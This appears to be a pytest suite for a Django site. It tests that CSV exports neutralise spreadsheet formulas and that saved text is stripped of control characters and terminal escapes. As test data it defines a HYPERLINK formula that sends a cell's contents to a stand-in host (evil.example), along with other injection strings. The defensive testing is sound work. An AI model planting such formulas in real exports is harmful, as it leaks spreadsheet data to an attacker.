"""Formulas never reach a spreadsheet as formulas; control characters never reach the database."""

import csv
import io

import pytest

from hub.safety import spreadsheet_safe, strip_control_characters
from network.models import Event
from tests.factories import AgreementFactory, AllyFactory, EventFactory, PersonFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


def _csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("typed", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1+1",
                                   "  =1+1", "\u00a0@SUM(A1)"])
def test_spreadsheet_safe_neutralises_every_formula_start(typed):
    assert spreadsheet_safe(typed) == "'" + typed
    assert spreadsheet_safe("Foro de transparencia") == "Foro de transparencia"
    assert spreadsheet_safe(42) == 42 and spreadsheet_safe(None) is None


def test_open_data_csv_carries_no_formula(client, infoem):
    EventFactory(title=FORMULA, organizers=[infoem])
    AgreementFactory(title="@SUM(1+1)*cmd", institutions=[infoem])
    for name in ("eventos", "convenios"):
        cells = [c for row in _csv_rows(client.get(f"/datos/{name}.csv")) for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells), name
    events = _csv_rows(client.get("/datos/eventos.csv"))
    assert events[1][1] == "'" + FORMULA
    # JSON stays exactly as typed: it is not a spreadsheet.
    assert client.get("/datos/eventos.json").json()["results"][0]["titulo"] == FORMULA


@pytest.mark.parametrize("model", ["person", "agreement", "ally"])
def test_admin_csv_exports_carry_no_formula(coordinator_client, infoem, model):
    PersonFactory(name=FORMULA, institution=infoem, position="+52 55 1234")
    AgreementFactory(title=FORMULA, institutions=[infoem])
    AllyFactory(name=FORMULA, phone="+52 33 0000")
    response = coordinator_client.get(f"/admin/snippets/network/{model}/?export=csv")
    assert response.status_code == 200
    rows = _csv_rows(response)
    cells = [c for row in rows[1:] for c in row]
    assert cells and not any(c.startswith(("=", "+", "@", "-")) for c in cells)
    assert "'" + FORMULA in cells


def test_control_characters_and_terminal_escapes_are_stripped_on_save(infoem):
    person = PersonFactory(name="Ana\x1b[2J\x07 Pérez\u202e", institution=infoem,
                           position="Enlace\r\nde prensa")
    person.refresh_from_db()
    assert person.name == "Ana[2J Pérez"
    assert person.position == "Enlace  de prensa"  # one line: breaks become spaces
    event = EventFactory(title="Foro\x00\x9b", summary="Resumen\x7f", organizers=[infoem])
    event.refresh_from_db()
    assert event.title == "Foro" and event.summary == "Resumen"


def test_multiline_text_keeps_its_line_breaks(infoem):
    from tests.factories import VideoCapsuleFactory

    capsule = VideoCapsuleFactory(institution=infoem, transcript="Uno\nDos\tTres\x1b[0m")
    capsule.refresh_from_db()
    assert capsule.transcript == "Uno\nDos\tTres[0m"


def test_titles_typed_in_the_admin_are_stored_without_escapes(coordinator_client, infoem):
    import datetime as dt

    from django.utils import timezone

    start = timezone.localtime() + dt.timedelta(days=5)
    data = {"title": "Foro \x1b[31mrojo\x1b[0m", "slug": "", "kind": "foro",
            "mode": "presencial", "summary": "Res\u2066umen", "description":
            '{"blocks": [], "entityMap": {}}', "starts_at": start.strftime("%Y-%m-%d %H:%M"),
            "ends_at": "", "venue": "Auditorio", "state": "", "online_url": "",
            "registration_url": "", "audience": "", "organizers": [infoem.pk],
            "commission": "", "go_live_at": "", "expire_at": ""}
    response = coordinator_client.post("/admin/snippets/network/event/add/", data)
    assert response.status_code == 302
    event = Event.objects.get(title__startswith="Foro ")
    assert "\x1b" not in event.title and event.summary == "Resumen"


def test_strip_keeps_ordinary_text():
    text = "Órgano garante — «Transparencia» 100 % ñ 😀"
    assert strip_control_characters(text) == text
